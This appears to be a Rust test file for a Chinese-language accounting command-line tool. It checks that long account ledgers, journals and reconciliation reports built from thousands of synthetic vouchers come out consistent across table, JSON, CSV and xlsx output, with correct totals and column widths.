/// chunks lined up as one, JSON and CSV as they are read, xlsx into the workbook's rows; each
/// with every entry, its months' totals (the table: months with entries; the sheet: every
/// month) and the closing balance from the book's balances equal to the last running balance.
#[test]
fn a_long_account_ledger_is_written_as_it_is_read() {
    let env = Env::jingmen();
    let mut csv = String::from("voucher,book,date,account,summary,debit,credit\n");
    let count = 5_200; // one 1003 line each: more rows than a table is laid out whole
    let mut paid_fen = 0i64;
    for i in 0..count {
        let fen = 10_000 + i as i64 * 7;
        paid_fen += fen;
        let amount = format!("{}.{:02}", fen / 100, fen % 100);
        // January and March; none in February.
        let date = if i < count / 2 { "2023-01-10" } else { "2023-03-20" };
        csv.push_str(&format!("A{i},shayang/employee,{date},5001.02,第{i}笔待遇,{amount},\n"));
        csv.push_str(&format!("A{i},shayang/employee,{date},1003,第{i}笔待遇,,{amount}\n"));
    }
    env.ok(&["import", &env.write("long.csv", &csv), "--post", "--reviewer", REVIEWER]);
    // 1003 is a debit-side account that only paid out: it closes at minus what was paid.
    let closing = format!("-{}.{:02}", paid_fen / 100, paid_fen % 100);
    let range = ["account", "--book", "shayang/employee", "--account", "1003", "--from", "2023-01", "--to", "2023-03"];

    let json: Value = serde_json::from_str(&env.ok(&[&["--format", "json"][..], &range[..]].concat())).unwrap();
    let entries = json["entries"].as_array().unwrap();
    assert_eq!(entries.len(), count);
    assert_eq!(json["closing"], closing.as_str());
    assert_eq!(entries[count - 1]["balance"], closing.as_str(), "the running balance ends at the closing");
    assert_eq!(entries[0]["number"], "记-2023-01-0001");
    assert_eq!(entries[count - 1]["number"], format!("记-2023-03-{:04}", count / 2).as_str());

    let table = env.ok(&range);
    let lines: Vec<&str> = table.lines().collect();
    // Title, top border, header, rule; 期初余额, the entries, two totals for January and for
    // March, 期末余额; bottom border.
    assert_eq!(lines.len(), 4 + 1 + count + 2 * 2 + 1 + 1, "{}", &table[..300]);
    assert_eq!(lines.iter().filter(|l| l.contains("凭证号")).count(), 1);
    assert_eq!(lines.iter().filter(|l| l.contains("本月合计")).count(), 2);
    assert!(!table.contains("2023-02 本月合计"));
    let width = |line: &str| unicode_width::UnicodeWidthStr::width(line);
    let widths: std::collections::BTreeSet<usize> = lines[1..].iter().map(|l| width(l)).collect();
    assert_eq!(widths.len(), 1, "every line of the table is as wide: {widths:?}");
    let last_row = lines[lines.len() - 2];
    assert!(last_row.contains("期末余额") && last_row.contains("2023-03-31"), "{last_row}");
    let table_closing = last_row.rsplit('┆').next().unwrap().trim_end_matches('│').trim();
    assert_eq!(table_closing.replace(',', ""), closing, "{last_row}");

    let csv_out = env.ok(&[&["--format", "csv", "--raw-amounts"][..], &range[..]].concat());
    // The header; 期初余额, the entries, two totals for each of the three months.
    assert_eq!(csv_out.lines().count(), 1 + 1 + count + 3 * 2);
    assert!(csv_out.contains("2023-02-28,,本月合计,0.00,0.00,借,"), "February is totalled on the sheet");
    assert!(csv_out.lines().last().unwrap().ends_with(&format!(",本年累计,0.00,{},借,{closing}", &closing[1..])));

    let sheet = env.dir.path().join("明细账.xlsx").display().to_string();
    env.ok(&[&["--format", "xlsx"][..], &range[..], &["--output", &sheet][..]].concat());
    let rows = sheet_rows(std::path::Path::new(&sheet));
    let totals: Vec<&Vec<String>> = rows.iter().filter(|r| r[2] == "本月合计").collect();
    assert_eq!(totals.len(), 3);
    assert_eq!(number(&totals[2][6]), -paid_fen);
    assert_eq!(rows.iter().filter(|r| r[1].starts_with("记-")).count(), count);

    reader_may_stop_early(&env, &range);

    // The 序时账 of the same months (read a month at a time) is in date order throughout.
    let journal: Value = serde_json::from_str(&env.ok(&[
        "--format",
        "json",
        "journal",
        "--book",
        "shayang/employee",
        "--from",
        "2023-01",
        "--to",
        "2023-03",
    ]))
    .unwrap();
    let numbers: Vec<&str> =
        journal["vouchers"].as_array().unwrap().iter().map(|v| v["number"].as_str().unwrap()).collect();
    assert_eq!(numbers.len(), count);
    let mut sorted = numbers.clone();
    sorted.sort();
    assert_eq!(numbers, sorted, "January's vouchers, then March's, each month in number order");
}

/// A long 明细账 table is measured month by month on two connections before its first row: across
/// a year's end, with its widest cells in different months (a long 摘要 in the first, the largest
/// amount in a middle one, the largest balance at the end), every column is exactly as wide as its
/// widest cell — no cell wraps, none is padded past it — and 本年累计 starts again in January.
#[test]
fn a_long_account_ledger_table_measured_in_parts_is_as_wide_as_its_widest_cells() {
    let env = Env::jingmen();
    let mut csv = String::from("voucher,book,date,account,summary,debit,credit\n");
    let months = ["2023-10-15", "2023-11-15", "2023-12-15", "2024-01-15"];
    let count = 5_200; // more rows than a table is laid out whole
    for i in 0..count {
        let date = months[i * months.len() / count];
        // December's totals pass a billion: wider than any one amount (the month's last rows).
        let fen: i64 = if i == count / 2 + 7 { 99_999_999_999 } else { 10_000 + i as i64 };
        let amount = format!("{}.{:02}", fen / 100, fen % 100);
        let summary = if i == 3 {
            "一笔摘要特别长的医疗保险待遇支付款项".to_string()
        } else {
            format!("待遇{i}")
        };
        csv.push_str(&format!("B{i},shayang/employee,{date},1003,{summary},{amount},\n"));
        csv.push_str(&format!("B{i},shayang/employee,{date},2001,{summary},,{amount}\n"));
    }
    env.ok(&["import", &env.write("year-end.csv", &csv), "--post", "--reviewer", REVIEWER]);
    let table =
        env.ok(&["account", "--book", "shayang/employee", "--account", "1003", "--from", "2023-10", "--to", "2024-01"]);
    let lines: Vec<&str> = table.lines().collect();
    // Title, top border, header, rule; 期初余额, the entries, two totals for each of four months,
    // 期末余额; bottom border: no cell wrapped onto a second line.
    assert_eq!(lines.len(), 4 + 1 + count + 4 * 2 + 1 + 1, "{}", lines[..8].join("\n"));
    assert_columns_as_wide_as_their_widest_cells(&lines, 8);
    // The widest cells are where they were put: the 摘要 in October, the amount in December, and
    // the balance (every receipt adds to it) in the last row.
    assert!(table.contains("一笔摘要特别长的医疗保险待遇支付款项"));
    assert!(table.contains("999,999,999.99"));
    // 本年累计 starts again in January: January's is its own month's total.
    let totals = |label: &str| {
        let row = lines.iter().find(|l| l.contains(label)).unwrap_or_else(|| panic!("{label}"));
        row.split('┆').nth(4).unwrap().trim().to_string()
    };
    assert_eq!(totals("2024-01 本年累计"), totals("2024-01 本月合计"));
    assert_ne!(totals("2023-12 本年累计"), totals("2023-12 本月合计"));
}

/// Every row of a table (its lines from the top border on) has `count` cells as wide as their
/// column, and each column is as wide as its widest cell and its padding: no wider, and — the
/// caller counts the lines — no cell wrapped.
fn assert_columns_as_wide_as_their_widest_cells(lines: &[&str], count: usize) {
    let width = |text: &str| unicode_width::UnicodeWidthStr::width(text);
    let columns: Vec<usize> =
        lines[1].trim_start_matches('┌').trim_end_matches('┐').split('┬').map(|s| s.chars().count()).collect();
    assert_eq!(columns.len(), count, "{}", lines[1]);
    let mut widest = vec![0; columns.len()];
    for line in lines.iter().filter(|l| l.starts_with('│')) {
        let cells: Vec<&str> = line.trim_start_matches('│').trim_end_matches('│').split('┆').collect();
        assert_eq!(cells.len(), columns.len(), "{line}");
        for (column, cell) in cells.iter().enumerate() {
            assert_eq!(width(cell), columns[column], "{line}");
            widest[column] = widest[column].max(width(cell.trim()));
        }
    }
    let padded: Vec<usize> = widest.iter().map(|w| w + 2).collect();
    assert_eq!(columns, padded, "each column is as wide as its widest cell and its padding");
}

/// A long 序时账 table over several months is measured month by month on two connections: its 合计
/// (the months' totals added together, the widest amounts) and a long 摘要 in its last month are
/// measured, every column is exactly as wide as its widest cell, and the 合计 counts every voucher.
#[test]
fn a_long_journal_table_measured_in_parts_is_as_wide_as_its_widest_cells() {
    let env = Env::jingmen();
    let mut csv = String::from("voucher,book,date,account,summary,debit,credit\n");
    let months = ["2023-02-10", "2023-03-10", "2023-04-10"];
    let count = 2_700; // two rows each: more rows than a table is laid out whole
    for i in 0..count {
        let date = months[i * months.len() / count];
        // Each amount is 9 characters wide (90,0xx.xx); the 合计 of the three months, 14.
        let fen: i64 = 9_000_000 + i as i64;
        let amount = format!("{}.{:02}", fen / 100, fen % 100);
        let summary = if i == count - 1 {
            "最后一张凭证的摘要写得特别长以撑宽这一列".to_string()
        } else {
            format!("第{i}笔")
        };
        csv.push_str(&format!("J{i},shayang/employee,{date},5001.02,{summary},{amount},\n"));
        csv.push_str(&format!("J{i},shayang/employee,{date},1003,{summary},,{amount}\n"));
    }
    env.ok(&["import", &env.write("months.csv", &csv), "--post", "--reviewer", REVIEWER]);
    let table = env.ok(&["journal", "--book", "shayang/employee", "--from", "2023-02", "--to", "2023-04"]);
    let lines: Vec<&str> = table.lines().collect();
    // Title, top border, header, rule, 2 rows a voucher, 合计, bottom border.
    assert_eq!(lines.len(), 4 + 2 * count + 2, "{}", lines[..8].join("\n"));
    assert_columns_as_wide_as_their_widest_cells(&lines, 7);
    let total_fen: i64 = (0..count as i64).map(|i| 9_000_000 + i).sum();
    let last_row = lines[lines.len() - 2];
    assert!(last_row.contains(&format!("{count} 张凭证")), "{last_row}");
    // By hand: 2,700 × 90,000.00 + (0 + … + 2,699) 分 = 243,000,000.00 + 36,436.50 = 243,036,436.50.
    assert_eq!(total_fen, 24_303_643_650);
    let grouped = "243,036,436.50";
    assert!(last_row.contains(grouped), "{last_row} lacks {grouped}");
    assert!(table.contains("最后一张凭证的摘要写得特别长以撑宽这一列"));
}

/// A reconciliation with more findings than a report is rendered whole is written as it is
/// rendered, in every format: the same report, whole.
#[test]
fn a_long_reconciliation_report_is_written_as_it_is_rendered() {
    let env = Env::jingmen();
    let mut csv = String::from("voucher,book,date,account,summary,debit,credit\n");
    let count = 2_100; // more findings than a report is rendered whole
    for i in 0..count {
        csv.push_str(&format!("R{i},shayang/employee,2023-01-10,5001.02,第{i}笔,1.00,\n"));
        csv.push_str(&format!("R{i},shayang/employee,2023-01-10,1003,第{i}笔,,1.00\n"));
    }
    env.ok(&["import", &env.write("unmatched.csv", &csv), "--post", "--reviewer", REVIEWER]);
    let args = ["reconcile", "--period", "2023-01", "--check", "bank", "--fund", "employee"];
    let json: Value = serde_json::from_str(&env.ok(&[&["--format", "json"][..], &args[..]].concat())).unwrap();
    let findings = json["findings"].as_array().unwrap();
    // Each unmatched payment is outstanding (21 days old, within the 30-day limit).
    let ours: Vec<&Value> =
        findings.iter().filter(|f| f["scope"].as_str().unwrap().starts_with("shayang/employee 1003")).collect();
    assert_eq!(ours.len(), count);
    assert!(ours.iter().all(|f| f["severity"] == "outstanding" && f["ours_amount"] == "-1.00"));
    assert_eq!(json["outstanding"].as_u64().unwrap() as usize, findings.len());
    assert_eq!(json["differences"], 0);
    assert_eq!(json["run_id"], 1);

    let table = env.ok(&[&["--no-pager"][..], &args[..]].concat());
    assert_eq!(table.lines().filter(|l| l.contains("[未达]")).count(), findings.len());
    assert!(table.contains(&format!("{:>3}. [未达]", findings.len())), "numbered to the last finding");
    assert!(table.ends_with(&format!("\n结论：无差异（未达账项 {} 笔，结转下月），可以结账。\n", findings.len())));

    let csv_out = env.ok(&[&["--format", "csv"][..], &args[..]].concat());
    assert_eq!(csv_out.lines().count(), 1 + findings.len());
    reader_may_stop_early(&env, &args);
}
